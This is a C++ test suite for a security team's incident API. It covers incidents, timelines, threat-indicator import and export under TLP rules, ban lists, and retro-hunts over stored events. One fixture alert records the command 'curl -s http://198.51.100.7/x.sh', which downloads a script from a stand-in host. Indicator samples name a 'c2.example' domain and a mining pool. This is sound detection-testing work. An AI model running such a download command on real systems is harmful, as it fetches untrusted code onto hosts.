// The CSIRT API (collector/src/csirt/api.h) through the collector's Handler,
// with a real SQLite store and the CsirtService's threads: every route x
// every role, optimistic concurrency (412, 428, 409), bad bodies (4xx,
// nothing written), alerts in timelines, indicators → sightings (at ingest
// and by retro-hunt), the scope with the job's every node and energy, and
// the SEC01 check raising one alert per overdue step.
#include <gtest/gtest.h>

#include <atomic>
#include <nlohmann/json.hpp>
#include <thread>

#include "alerting/alert_router.h"
#include "csirt/api.h"
#include "csirt/csirt_service.h"
#include "http/handler.h"
#include "storage/sqlite_store.h"
#include "vigie/csirt/json.h"
#include "support/footprint_fixture.h"
#include "support/sample_batch.h"

namespace vigie::collector {
namespace {

using nlohmann::json;
using testing::kSecondNs;

const std::map<std::string, std::string> kTokens = {
    {"admin", "tok-admin"},       {"csirt", "tok-csirt"},
    {"operator", "tok-operator"}, {"sustainability", "tok-sustainability"},
    {"user:alice", "tok-alice"},
};

class CapturingSink : public AlertSink {
 public:
  void deliver(const AlertNotification& n) override {
    std::lock_guard lock(mutex_);
    delivered_.push_back(n);
  }
  std::vector<AlertNotification> delivered() {
    std::lock_guard lock(mutex_);
    return delivered_;
  }

 private:
  std::mutex mutex_;
  std::vector<AlertNotification> delivered_;
};

class CsirtApiTest : public ::testing::Test {
 protected:
  CsirtApiTest()
      : store_((dir_.path() / "collector.db").string()),
        router_(AlertRouterOptions{"grif", Tlp::kAmber, 300 * kSecondNs}) {
    for (const auto& [role, token] : kTokens) {
      auto principal = parse_role(role);
      principal->name = role + " holder";
      config_.api.tokens.push_back({sha256(token), *principal});
    }
    config_.csirt.check_interval = std::chrono::milliseconds(0);  // the test checks
    config_.csirt.feed_amber_peers = {"admin holder"};
    AgentToken site;  // a site's token at this (federation) collector
    site.sha256 = sha256("tok-site-lapp");
    site.site = "lapp";
    site.any_host = true;
    config_.agent_tokens.push_back(site);
    config_.agent_tokens.push_back({sha256("tok-node"), "", "node1", false});
    handler_ = std::make_unique<Handler>(config_, store_, metrics_);
    router_.add_sink(sink_);
    service_ = std::make_unique<CsirtService>(config_.csirt, "GRIF", Tlp::kAmber, store_, router_,
                                              std::chrono::hours(0), &metrics_.registry());
    api_ = std::make_unique<CsirtApi>(*service_);
    handler_->set_csirt(*api_);
    service_->start();
  }
  ~CsirtApiTest() override { service_->stop(); }

  Response call(const std::string& method, const std::string& target, const std::string& body = "",
                const std::string& role = "csirt", const std::string& if_match = "") {
    Request request;
    request.method = method;
    request.target = "/api/v1/csirt" + target;
    request.authorization = "Bearer " + kTokens.at(role);
    request.content_type = body.empty() ? "" : "application/json";
    request.if_match = if_match;
    request.body = body;
    return handler_->handle(request);
  }
  static json body(const Response& response) { return json::parse(response.body); }
  static std::string etag_of(const Response& response) {
    for (const auto& [name, value] : response.headers)
      if (name == "ETag") return value;
    return "";
  }

  json create(const std::string& extra = "") {
    const auto response =
        call("POST", "/incidents", R"({"title":"Miner on node1")" + extra + "}");
    EXPECT_EQ(response.status, 201) << response.body;
    return body(response);
  }

  json wait_retrohunt(const std::string& id) {
    json hunt;
    for (int i = 0; i < 500; ++i) {
      hunt = body(call("GET", "/retrohunt/" + id));
      if (hunt["state"] == "done" || hunt["state"] == "failed") break;
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    return hunt;
  }

  testing::TempDir dir_;
  Config config_;
  SqliteStore store_;
  Metrics metrics_;
  std::unique_ptr<Handler> handler_;
  CapturingSink sink_;
  AlertRouter router_;
  std::unique_ptr<CsirtService> service_;
  std::unique_ptr<CsirtApi> api_;
};

TEST_F(CsirtApiTest, EveryRouteTimesEveryRole) {
  const json incident = create();
  const std::string id = incident["id"];
  const auto indicator = body(call("POST", "/indicators", R"({"type":"ip","value":"192.0.2.1"})"));
  const std::string uuid = indicator["indicators"][0]["uuid"];
  const std::string hunt = body(call("POST", "/retrohunt", R"({"indicators":[")" + uuid + "\"]}"))["id"];
  struct Route {
    std::string method, target, body;
  };
  const std::vector<Route> routes = {
      {"POST", "/incidents", R"({"title":"t"})"},
      {"GET", "/incidents", ""},
      {"GET", "/incidents/" + id, ""},
      {"PATCH", "/incidents/" + id, R"({"summary":"s"})"},
      {"POST", "/incidents/" + id + "/timeline", R"({"kind":"note","text":"n"})"},
      {"GET", "/incidents/" + id + "/timeline", ""},
      {"POST", "/incidents/" + id + "/indicators", R"({"type":"user","value":"eve"})"},
      {"GET", "/incidents/" + id + "/indicators", ""},
      {"GET", "/incidents/" + id + "/sightings", ""},
      {"GET", "/incidents/" + id + "/scope", ""},
      {"POST", "/indicators", R"({"type":"domain","value":"pool.example"})"},
      {"POST", "/import",
       R"({"Event":{"Attribute":[{"type":"sha256","value":")" + std::string(64, 'c') + "\"}]}}"},
      {"GET", "/imports", ""},
      {"POST", "/import/plan", "{}"},
      {"GET", "/incidents/" + id + "/export?format=misp", ""},
      {"GET", "/incidents/" + id + "/export?format=stix&tlp=amber", ""},
      {"GET", "/bans", ""},
      {"GET", "/sites/incidents", ""},
      {"GET", "/headsups/answers", ""},
      {"POST", "/bans", R"({"type":"user","value":"eve","reason":"r"})"},
      {"GET", "/bans/status", ""},
      {"POST", "/bans/applied", R"({"serials":{"grif":1}})"},
      {"GET", "/indicators?type=ip&value=192.0.2.1", ""},
      {"GET", "/indicators/" + uuid, ""},
      {"GET", "/indicators/" + uuid + "/sightings", ""},
      {"POST", "/retrohunt", R"({"indicators":[")" + uuid + "\"]}"},
      {"GET", "/retrohunt/" + hunt, ""},
  };
  for (const auto& [role, token] : kTokens) {
    const bool allowed = role == "csirt" || role == "admin";
    for (const auto& route : routes) {
      const std::string etag = "\"" + std::to_string(body(call("GET", "/incidents/" + id))["version"].get<int>()) + "\"";
      const auto response = call(route.method, route.target, route.body, role, etag);
      if (allowed) {
        EXPECT_GE(response.status, 200) << role << " " << route.method << " " << route.target;
        EXPECT_LT(response.status, 300)
            << role << " " << route.method << " " << route.target << ": " << response.body;
      } else {
        EXPECT_EQ(response.status, 403) << role << " " << route.method << " " << route.target;
      }
    }
  }
  // Without a token: 401; an unknown sub-path: 404; a wrong method: 405 with Allow.
  Request anonymous;
  anonymous.method = "GET";
  anonymous.target = "/api/v1/csirt/incidents";
  EXPECT_EQ(handler_->handle(anonymous).status, 401);
  EXPECT_EQ(call("GET", "/nothing").status, 404);
  EXPECT_EQ(call("GET", "/incidents/" + id + "/nothing").status, 404);
  EXPECT_EQ(call("GET", "/incidents/a%2F..").status, 404);
  const auto wrong = call("DELETE", "/incidents/" + id);
  EXPECT_EQ(wrong.status, 405);
  ASSERT_FALSE(wrong.headers.empty());
  EXPECT_EQ(wrong.headers[0].second, "GET, PATCH");
}

TEST_F(CsirtApiTest, CreatesWithReadableIdsSiteDefaultsAndAnETag) {
  const auto response = call("POST", "/incidents", R"({"title":"Miner","severity":"high"})");
  ASSERT_EQ(response.status, 201) << response.body;
  const json incident = body(response);
  EXPECT_EQ(incident["id"].get<std::string>().substr(0, 5), "grif-");
  EXPECT_EQ(incident["state"], "suspected");
  EXPECT_EQ(incident["tlp"], "amber");  // the site's default
  EXPECT_EQ(incident["sites"], json::array({"GRIF"}));
  EXPECT_EQ(etag_of(response), "\"1\"");
  EXPECT_EQ(incident["next_deadline"]["key"], "report");
  EXPECT_EQ(incident["sec01"].size(), 2u);
  const auto listed = body(call("GET", "/incidents?open=1"));
  EXPECT_EQ(listed["incidents"].size(), 1u);
  EXPECT_EQ(body(call("GET", "/incidents/" + incident["uuid"].get<std::string>()))["id"],
            incident["id"]);
}

TEST_F(CsirtApiTest, BadInputIsA4xxAndWritesNothing) {
  EXPECT_EQ(call("POST", "/incidents", "{").status, 400);
  EXPECT_EQ(call("POST", "/incidents", R"({"title":"x","tlp":"purple"})").status, 400);
  EXPECT_EQ(call("POST", "/incidents", R"({"title":"x","alerts":[12345]})").status, 400);
  EXPECT_EQ(call("POST", "/incidents", R"({"title":"x","discovered_ns":9000000000000000000})").status,
            400);
  EXPECT_EQ(call("POST", "/incidents", std::string(csirt::kMaxBodyBytes + 1, ' ')).status, 413);
  Request xml;
  xml.method = "POST";
  xml.target = "/api/v1/csirt/incidents";
  xml.authorization = "Bearer tok-csirt";
  xml.content_type = "application/xml";
  xml.body = "<incident/>";
  EXPECT_EQ(handler_->handle(xml).status, 415);
  EXPECT_EQ(body(call("GET", "/incidents"))["incidents"].size(), 0u);
  EXPECT_EQ(call("GET", "/incidents?limit=0").status, 400);
  EXPECT_EQ(call("GET", "/incidents?state=done").status, 400);
  EXPECT_EQ(call("GET", "/incidents/nope-2026-0001").status, 404);
  EXPECT_EQ(call("POST", "/indicators", R"({"type":"ip","value":"999.1.1.1"})").status, 400);
  EXPECT_EQ(call("GET", "/indicators?value=x").status, 400);
  EXPECT_EQ(call("POST", "/retrohunt", R"({"indicators":["no-such"]})").status, 400);
  EXPECT_EQ(call("GET", "/retrohunt/no-such").status, 404);
}

TEST_F(CsirtApiTest, PatchNeedsTheCurrentETagAndAReasonAndFollowsTheStateMachine) {
  const json incident = create();
  const std::string path = "/incidents/" + incident["id"].get<std::string>();
  EXPECT_EQ(call("PATCH", path, R"({"state":"reported","reason":"mailed"})").status, 428);
  EXPECT_EQ(call("PATCH", path, R"({"state":"reported"})", "csirt", "\"1\"").status, 400);
  EXPECT_EQ(call("PATCH", path, R"({"state":"closed","reason":"r"})", "csirt", "\"1\"").status, 409);
  const auto moved = call("PATCH", path, R"({"state":"reported","reason":"mailed abuse@egi.eu"})",
                          "csirt", "\"1\"");
  ASSERT_EQ(moved.status, 200) << moved.body;
  EXPECT_EQ(etag_of(moved), "\"2\"");
  EXPECT_GT(body(moved)["reported_ns"].get<uint64_t>(), 0u);
  EXPECT_EQ(body(moved)["sec01"][0]["status"], "done");
  // The old ETag is stale now.
  EXPECT_EQ(call("PATCH", path, R"({"summary":"s"})", "csirt", "\"1\"").status, 412);
  const auto timeline = body(call("GET", path + "/timeline"))["timeline"];
  ASSERT_EQ(timeline.size(), 2u);
  EXPECT_EQ(timeline[1]["kind"], "state_change");
  EXPECT_EQ(timeline[1]["text"], "suspected → reported: mailed abuse@egi.eu");
  EXPECT_EQ(timeline[1]["author"], "csirt holder");
  // Merged needs an incident that exists; closed is final.
  EXPECT_EQ(call("PATCH", path, R"({"state":"merged","reason":"r","merged_into":"x-1"})", "csirt",
                 "\"2\"")
                .status,
            400);
}

TEST_F(CsirtApiTest, ConcurrentPatchesWithTheSameETagOneWinsTheOthers412) {
  const json incident = create();
  const std::string path = "/incidents/" + incident["id"].get<std::string>();
  std::atomic<int> ok{0}, stale{0}, other{0};
  std::vector<std::thread> threads;
  for (int i = 0; i < 6; ++i) {
    threads.emplace_back([&, i] {
      const int status = call("PATCH", path, R"({"summary":"writer )" + std::to_string(i) + "\"}",
                              "csirt", "\"1\"")
                             .status;
      (status == 200 ? ok : status == 412 ? stale : other)++;
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(ok, 1);
  EXPECT_EQ(stale, 5);
  EXPECT_EQ(other, 0);
}

TEST_F(CsirtApiTest, TimelineEntriesKeepTlpAndDriveTheRequestAndClosureClocks) {
  const json incident = create(R"(,"tlp":"amber+strict")");
  const std::string path = "/incidents/" + incident["id"].get<std::string>();
  EXPECT_EQ(call("POST", path + "/timeline", R"({"kind":"note","text":"t","tlp":"green"})").status,
            400);  // looser than the incident's
  EXPECT_EQ(call("POST", path + "/timeline", R"({"kind":"state_change","text":"t"})").status, 400);
  const auto request =
      call("POST", path + "/timeline", R"({"kind":"egi_request","text":"send logs","source":"egi-csirt"})");
  ASSERT_EQ(request.status, 201) << request.body;
  EXPECT_EQ(body(request)["tlp"], "amber+strict");
  const std::string request_id = body(request)["id"];
  auto steps = body(call("GET", path))["sec01"];
  EXPECT_EQ(steps.back()["key"], "request:" + request_id);
  EXPECT_EQ(steps.back()["status"], "ok");
  EXPECT_EQ(call("POST", path + "/timeline",
                 R"({"kind":"communication","text":"sent","answers":"nope"})")
                .status,
            400);
  ASSERT_EQ(call("POST", path + "/timeline",
                 R"({"kind":"communication","text":"logs sent","answers":")" + request_id + "\"}")
                .status,
            201);
  EXPECT_EQ(body(call("GET", path))["sec01"].back()["status"], "done");
  // A closure report as GREEN is refused (SEC01 step 6), as AMBER accepted.
  EXPECT_EQ(call("POST", path + "/timeline",
                 R"({"kind":"report","text":"closure","closure_report":true,"tlp":"green"})")
                .status,
            400);
  ASSERT_EQ(call("POST", path + "/timeline",
                 R"({"kind":"report","text":"closure","closure_report":true,"tlp":"red"})")
                .status,
            201);
  EXPECT_GT(body(call("GET", path))["closure_report_ns"].get<uint64_t>(), 0u);
  // A correction is a new entry naming the one it corrects.
  EXPECT_EQ(call("POST", path + "/timeline", R"({"kind":"note","text":"x","corrects":"nope"})").status,
            400);
  EXPECT_EQ(call("POST", path + "/timeline",
                 R"({"kind":"note","text":"it was Friday","corrects":")" + request_id + "\"}")
                .status,
            201);
}

TEST_F(CsirtApiTest, AlertsSightingsRetrohuntAndScope) {
  // Job 42 ran on node1 and node2 (footprints), alice's; node1's agent
  // alerted on an exec of curl by alice in job 42 and connected to 198.51.100.7.
  auto batch = testing::sample_batch(1, "node1", protocol::wall_clock_ns() - 60 * kSecondNs);
  ASSERT_EQ(store_.store_batch(batch, 1).status, StoreOutcome::Status::kStored);
  for (const auto& [host, seq] : {std::pair{"node1", 2}, {"node2", 3}}) {
    auto job = testing::agent_batch(host, seq);
    auto energy = testing::job_energy("42", 100, 3600, 5.0, false);
    energy.workload.user = "alice";
    energy.workload.account = "physics";
    job.workload_energy = {energy};
    job.workload_ends = {{100'000'000'000, 101'000'000'000, energy.workload}};
    ASSERT_EQ(store_.store_batch(job, 2).status, StoreOutcome::Status::kStored);
  }
  const auto alerts = store_.alerts({});
  ASSERT_EQ(alerts.size(), 1u);
  const int64_t alert_id = alerts[0].id;

  const json incident = create(R"(,"alerts":[)" + std::to_string(alert_id) + "]");
  const std::string path = "/incidents/" + incident["id"].get<std::string>();
  const auto timeline = body(call("GET", path + "/timeline"))["timeline"];
  ASSERT_EQ(timeline.size(), 1u);
  EXPECT_EQ(timeline[0]["kind"], "alert");
  ASSERT_EQ(timeline[0]["alerts"].size(), 1u);
  const json& alert = timeline[0]["alerts"][0];
  EXPECT_EQ(alert["host"], "node1");
  EXPECT_EQ(alert["user"], "alice");
  EXPECT_EQ(alert["workload"]["id"], "42");
  EXPECT_EQ(alert["command_line"], "curl -s http://198.51.100.7/x.sh");

  // The address, linked afterwards, is found in the stored events by a retro-hunt.
  const auto linked = call("POST", path + "/indicators", R"({"type":"ip-dst","value":"198.51.100.0/24"})");
  ASSERT_EQ(linked.status, 201) << linked.body;
  const json hunt = wait_retrohunt(body(linked)["retrohunt"]["id"]);
  EXPECT_EQ(hunt["state"], "done") << hunt.dump();
  EXPECT_EQ(hunt["rows_scanned"], 1);
  EXPECT_EQ(hunt["truncated"], false);
  const auto sightings = body(call("GET", path + "/sightings"))["sightings"];
  ASSERT_EQ(sightings.size(), 1u);
  EXPECT_EQ(sightings[0]["source"], "retrohunt");
  EXPECT_EQ(sightings[0]["host"], "node1");
  EXPECT_EQ(sightings[0]["workload"]["id"], "42");
  EXPECT_EQ(sightings[0]["user"], "alice");

  // From now on an alert whose event matches becomes a sighting at ingest.
  auto again = testing::sample_batch(4, "node3", protocol::wall_clock_ns());
  again.alerts[0].event = again.events[1];  // the connection to 198.51.100.7
  ASSERT_EQ(store_.store_batch(again, 3).status, StoreOutcome::Status::kStored);
  const std::string uuid = body(linked)["indicators"][0]["uuid"];
  const auto seen = body(call("GET", "/indicators/" + uuid + "/sightings"))["sightings"];
  ASSERT_EQ(seen.size(), 2u);
  EXPECT_EQ(seen[0]["source"], "alert");
  EXPECT_EQ(seen[0]["host"], "node3");
  EXPECT_GT(seen[0]["alert_id"].get<int64_t>(), 0);

  // Scope: sites, hosts, the user, the job with every node it ran on and its energy.
  const json scope = body(call("GET", path + "/scope"));
  EXPECT_EQ(scope["hosts"], json::array({"node1", "node2", "node3"}));
  EXPECT_EQ(scope["users"], json::array({"alice"}));
  EXPECT_EQ(scope["accounts"], json::array({"physics"}));
  ASSERT_EQ(scope["jobs"].size(), 1u);
  EXPECT_EQ(scope["jobs"][0]["job_id"], "42");
  EXPECT_EQ(scope["jobs"][0]["hosts"], json::array({"node1", "node2"}));
  EXPECT_EQ(scope["jobs"][0]["ended"], true);
  // 3600 J on each node, plus the 90 J of job 42 in node1's first batch.
  EXPECT_DOUBLE_EQ(scope["jobs"][0]["energy_joules"].get<double>(), 7290.0);
  EXPECT_DOUBLE_EQ(scope["energy_joules"].get<double>(), 7290.0);
  EXPECT_GT(scope["carbon_gco2e"].get<double>(), 0.0);
}

TEST_F(CsirtApiTest, RevokedIndicatorsNeverMatch) {
  auto add = call("POST", "/indicators", R"({"type":"filename","value":"curl","deleted":true})");
  ASSERT_EQ(add.status, 201) << add.body;
  EXPECT_TRUE(body(add)["retrohunt"].is_null());
  auto batch = testing::sample_batch(1, "node1", protocol::wall_clock_ns());
  ASSERT_EQ(store_.store_batch(batch, 1).status, StoreOutcome::Status::kStored);
  const std::string uuid = body(add)["indicators"][0]["uuid"];
  EXPECT_EQ(body(call("GET", "/indicators/" + uuid + "/sightings"))["sightings"].size(), 0u);
  EXPECT_EQ(body(call("GET", "/indicators?type=filename"))["indicators"].size(), 0u);
  EXPECT_EQ(body(call("GET", "/indicators?type=filename&deleted=1"))["indicators"].size(), 1u);
}

TEST_F(CsirtApiTest, MispImportKeepsTlpAndRevocationAndFeedsTheMatcher) {
  const std::string event = R"({"Event": {"uuid": "5e0f1c2a-0000-4000-8000-00000000abcd",
      "timestamp": "1700000000", "Tag": [{"name": "tlp:green"}],
      "Attribute": [
        {"uuid": "5e0f1c2a-0000-4000-8000-000000000001", "type": "filename", "value": "curl",
         "to_ids": true},
        {"uuid": "5e0f1c2a-0000-4000-8000-000000000002", "type": "ip-dst",
         "value": "198.51.100.7", "deleted": true},
        {"type": "link", "value": "https://x.example", "to_ids": false},
        {"type": "url", "value": "https://x.example/a"},
        {"type": "ip-src", "value": "not-an-ip"}]}})";
  const auto imported = call("POST", "/import", event);
  ASSERT_EQ(imported.status, 201) << imported.body;
  const json answer = body(imported);
  EXPECT_EQ(answer["format"], "misp");
  EXPECT_EQ(answer["counts"], json::parse(R"({"added": 1, "updated": 0, "revoked": 1,
      "skipped": 1, "unsupported": 1, "invalid": 1})"));
  EXPECT_EQ(answer["context"].size(), 2u);  // the link and the url, kept, never matched
  const std::string curl = "5e0f1c2a-0000-4000-8000-000000000001";
  const std::string revoked = "5e0f1c2a-0000-4000-8000-000000000002";
  const json stored = body(call("GET", "/indicators/" + curl));
  EXPECT_EQ(stored["tlp"], "green");
  EXPECT_EQ(stored["source"], "misp:5e0f1c2a-0000-4000-8000-00000000abcd");
  EXPECT_EQ(body(call("GET", "/indicators/" + revoked))["deleted"], true);
  // The report is kept, with its context; the list leaves the context out.
  const json report = body(call("GET", "/imports/" + answer["id"].get<std::string>()));
  EXPECT_EQ(report["context"].size(), 2u);
  const json imports = body(call("GET", "/imports"));
  ASSERT_EQ(imports["imports"].size(), 1u);
  EXPECT_FALSE(imports["imports"][0].contains("context"));
  // The sample alert's event runs curl: a sighting; its connection to the
  // revoked address is none. (The import's retro-hunt ends first: it would
  // otherwise find the batch's events too.)
  EXPECT_EQ(wait_retrohunt(answer["retrohunt"]["id"])["state"], "done");
  auto batch = testing::sample_batch(1, "node1", protocol::wall_clock_ns());
  ASSERT_EQ(store_.store_batch(batch, 1).status, StoreOutcome::Status::kStored);
  EXPECT_EQ(body(call("GET", "/indicators/" + curl + "/sightings"))["sightings"].size(), 1u);
  EXPECT_EQ(body(call("GET", "/indicators/" + revoked + "/sightings"))["sightings"].size(), 0u);
  // The same event again: updated, not added; a feed's plan skips it at
  // the same timestamp and fetches it at a new one.
  const json again = body(call("POST", "/import", event));
  EXPECT_EQ(again["counts"]["added"], 0);
  EXPECT_EQ(again["counts"]["updated"], 1);
  const json plan = body(call("POST", "/import/plan", R"({
      "5e0f1c2a-0000-4000-8000-00000000abcd": {"info": "a", "timestamp": 1700000000},
      "5e0f1c2a-0000-4000-8000-00000000abce": {"info": "b", "timestamp": "1700000001"}})"));
  EXPECT_EQ(plan["fetch"], json::parse(R"(["5e0f1c2a-0000-4000-8000-00000000abce"])"));
  EXPECT_EQ(plan["unchanged"], 1);
  const json changed = body(call("POST", "/import/plan", R"({
      "5e0f1c2a-0000-4000-8000-00000000abcd": {"info": "a", "timestamp": 1700000005}})"));
  EXPECT_EQ(changed["fetch"].size(), 1u);
  // Refused whole: 400, nothing stored.
  EXPECT_EQ(call("POST", "/import", R"({"nope": 1})").status, 400);
  EXPECT_EQ(call("POST", "/import?format=stix", event).status, 400);
  EXPECT_EQ(call("POST", "/import?format=csv", event).status, 400);
  EXPECT_EQ(call("POST", "/import/plan", R"({"x": {"timestamp": 1}})").status, 400);
  EXPECT_EQ(body(call("GET", "/imports"))["imports"].size(), 2u);
  EXPECT_EQ(call("GET", "/import").status, 405);  // a POST-only route
}

TEST_F(CsirtApiTest, StixImportReadsPatternsAndMarkings) {
  const auto imported = call("POST", "/import", R"({"type": "bundle",
      "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d", "objects": [
      {"type": "indicator", "spec_version": "2.1",
       "id": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f",
       "created": "2026-01-01T00:00:00.000Z", "modified": "2026-01-01T00:00:00.000Z",
       "pattern": "[ipv4-addr:value = '198.51.100.0/24' OR domain-name:value = 'c2.example']",
       "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z",
       "object_marking_refs": ["marking-definition--bab4a63c-aed9-4cf5-a766-dfca5abac2bb"]},
      {"type": "indicator", "spec_version": "2.1",
       "id": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd40",
       "created": "2026-01-01T00:00:00.000Z", "modified": "2026-01-01T00:00:00.000Z",
       "pattern": "[url:value = 'http://x.example/']", "pattern_type": "stix",
       "valid_from": "2026-01-01T00:00:00Z"}]})");
  ASSERT_EQ(imported.status, 201) << imported.body;
  const json answer = body(imported);
  EXPECT_EQ(answer["format"], "stix");
  EXPECT_EQ(answer["counts"]["added"], 2);
  EXPECT_EQ(answer["counts"]["unsupported"], 1);
  const json stored = body(call("GET", "/indicators/8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f"));
  EXPECT_EQ(stored["value"], "198.51.100.0/24");
  EXPECT_EQ(stored["tlp"], "green");
}

TEST_F(CsirtApiTest, ExportsFollowTlpAndTheMispFeedServesWhatACallerMayReceive) {
  const json green = create(R"(,"tlp":"green")");
  const json amber = create(R"(,"tlp":"amber")");
  const json red = create(R"(,"tlp":"red")");
  for (const json* incident : {&green, &amber, &red}) {
    const std::string id = (*incident)["id"];
    ASSERT_EQ(call("POST", "/incidents/" + id + "/indicators",
                   R"({"indicators": [{"type":"ip","value":"198.51.100.9","tlp":"green"},
                                      {"type":"user","value":"mallory","tlp":"red"}]})")
                  .status,
              201);
  }
  const std::string amber_id = amber["id"];
  // To a GREEN destination an AMBER incident is refused; to an AMBER one it
  // goes with its GREEN indicator, never the RED one.
  EXPECT_EQ(call("GET", "/incidents/" + amber_id + "/export?format=misp&tlp=green").status, 403);
  const auto misp = call("GET", "/incidents/" + amber_id + "/export?format=misp&tlp=amber");
  ASSERT_EQ(misp.status, 200) << misp.body;
  EXPECT_NE(misp.body.find("198.51.100.9"), std::string::npos);
  EXPECT_EQ(misp.body.find("mallory"), std::string::npos);
  EXPECT_EQ(body(misp)["Event"]["uuid"], amber["uuid"]);
  const auto stix = call("GET", "/incidents/" + amber_id + "/export?format=stix");
  ASSERT_EQ(stix.status, 200) << stix.body;
  EXPECT_EQ(body(stix)["type"], "bundle");
  EXPECT_EQ(stix.body.find("mallory"), std::string::npos);
  EXPECT_NE(call("GET", "/incidents/" + std::string(red["id"]) + "/export?format=stix&local=1")
                .body.find("mallory"),
            std::string::npos);  // a local export of a RED incident keeps its RED indicator
  EXPECT_EQ(call("GET", "/incidents/" + amber_id + "/export").status, 400);  // no format

  // The feed: GREEN without a token; AMBER to a peer allowed it; never RED.
  auto feed = [&](const std::string& item, const std::string& role) {
    Request request;
    request.method = "GET";
    request.target = "/api/v1/csirt/feeds/misp/" + item;
    if (!role.empty()) request.authorization = "Bearer " + kTokens.at(role);
    return handler_->handle(request);
  };
  const json anonymous = body(feed("manifest.json", ""));
  EXPECT_EQ(anonymous.size(), 1u);
  EXPECT_TRUE(anonymous.contains(green["uuid"].get<std::string>()));
  EXPECT_EQ(feed(amber["uuid"].get<std::string>() + ".json", "").status, 404);
  EXPECT_EQ(feed(red["uuid"].get<std::string>() + ".json", "admin").status, 404);
  EXPECT_EQ(feed(green["uuid"].get<std::string>() + ".json", "").status, 200);
  EXPECT_EQ(body(feed("manifest.json", "csirt")).size(), 1u);  // not an AMBER peer
  EXPECT_EQ(body(feed("manifest.json", "admin")).size(), 2u);  // GREEN and AMBER
  EXPECT_EQ(feed(amber["uuid"].get<std::string>() + ".json", "admin").status, 200);
  EXPECT_EQ(feed("manifest.json", "operator").status, 403);
  const auto csv = feed("hashes.csv", "");
  EXPECT_EQ(csv.status, 200);
  EXPECT_NE(csv.body.find(green["uuid"].get<std::string>()), std::string::npos);
  EXPECT_EQ(csv.body.find(amber["uuid"].get<std::string>()), std::string::npos);
}

TEST_F(CsirtApiTest, BanListSerialsLiftsAndSiteAcknowledgements) {
  const auto added = call("POST", "/bans", R"({"type":"x509-dn",
      "value":"/DC=org/DC=example/CN=Mallory","actions":["deny-login","detect"],
      "reason":"credentials sold","tlp":"amber"})");
  ASSERT_EQ(added.status, 201) << added.body;
  const std::string id = body(added)["id"];
  EXPECT_EQ(body(added)["origin"], "GRIF");
  EXPECT_EQ(body(added)["created_by"], "csirt holder");
  EXPECT_EQ(call("POST", "/bans", R"({"type":"user","value":"a b","reason":"r"})").status, 400);
  EXPECT_EQ(call("POST", "/bans", R"({"type":"user","value":"a","reason":"r",
      "incident":"grif-2026-9999"})")
                .status,
            400);  // no such incident
  json lists = body(call("GET", "/bans"))["lists"];
  ASSERT_EQ(lists.size(), 1u);
  EXPECT_EQ(lists[0]["serial"], 1);

  // Lifting needs a reason, bumps the serial, and happens once.
  EXPECT_EQ(call("POST", "/bans/" + id + "/lift", "{}").status, 400);
  ASSERT_EQ(call("POST", "/bans/" + id + "/lift", R"({"reason":"revoked"})").status, 200);
  EXPECT_EQ(call("POST", "/bans/" + id + "/lift", R"({"reason":"again"})").status, 409);
  EXPECT_EQ(call("POST", "/bans/nope/lift", R"({"reason":"x"})").status, 404);
  lists = body(call("GET", "/bans"))["lists"];
  EXPECT_EQ(lists[0]["serial"], 2);
  EXPECT_EQ(lists[0]["entries"][0]["lift_reason"], "revoked");

  // A site acknowledges with its site token (the token names the site); a
  // node's token, an API token or a bad body are refused.
  auto ack = [&](const std::string& token, const std::string& ack_body) {
    Request request;
    request.method = "POST";
    request.target = "/api/v1/distribution/bans/ack";
    request.authorization = "Bearer " + token;
    request.content_type = "application/json";
    request.body = ack_body;
    return handler_->handle(request);
  };
  EXPECT_EQ(ack("tok-site-lapp", R"({"site":"forged","reached_serial":2,"applied_serial":1,
      "applied_ns":5,"failures":["slurm: sacctmgr not found"]})")
                .status,
            200);
  EXPECT_EQ(ack("tok-node", R"({"site":"x","reached_serial":2})").status, 403);
  EXPECT_EQ(ack("tok-csirt", R"({"site":"x"})").status, 401);
  EXPECT_EQ(ack("tok-site-lapp", R"({"site":"lapp","serial":2})").status, 400);
  const json status = body(call("GET", "/bans/status"));
  EXPECT_EQ(status["serial"], 2);
  ASSERT_EQ(status["sites"].size(), 1u);
  EXPECT_EQ(status["sites"][0]["site"], "lapp");
  EXPECT_EQ(status["sites"][0]["state"], "reached");
  EXPECT_EQ(status["sites"][0]["lag"], 1);
  EXPECT_EQ(status["sites"][0]["failures"][0], "slurm: sacctmgr not found");
  EXPECT_NE(metrics_.exposition().find("vigie_csirt_ban_serial_lag{site=\"lapp\"} 1"),
            std::string::npos);
  EXPECT_EQ(call("POST", "/bans/applied", R"({"serials":{"GRIF":-1}})").status, 400);
  EXPECT_EQ(call("DELETE", "/bans").status, 405);
}

TEST_F(CsirtApiTest, AnOverdueStepRaisesExactlyOneAlertWithTheIncidentsTlp) {
  const uint64_t now = protocol::wall_clock_ns();
  const uint64_t five_hours_ago = now - 5 * 3600 * kSecondNs;
  const json incident =
      create(R"(,"tlp":"red","discovered_ns":)" + std::to_string(five_hours_ago));
  EXPECT_EQ(incident["sec01"][0]["status"], "overdue");
  EXPECT_EQ(service_->check_sec01(now), 1u);  // report overdue; contain not yet
  EXPECT_EQ(service_->check_sec01(now + kSecondNs), 0u);
  const auto delivered = sink_.delivered();
  ASSERT_EQ(delivered.size(), 1u);
  EXPECT_EQ(delivered[0].tlp, Tlp::kRed);
  const auto labels = alert_labels(delivered[0]);
  EXPECT_EQ(labels.at("incident"), incident["id"]);
  EXPECT_EQ(labels.at("sec01_step"), "report");
  EXPECT_EQ(labels.at("tlp"), "red");
  // A day later the contain step is overdue too: one more alert.
  EXPECT_EQ(service_->check_sec01(now + 24 * 3600 * kSecondNs), 1u);
  EXPECT_EQ(sink_.delivered().size(), 2u);
}

}  // namespace
}  // namespace vigie::collector
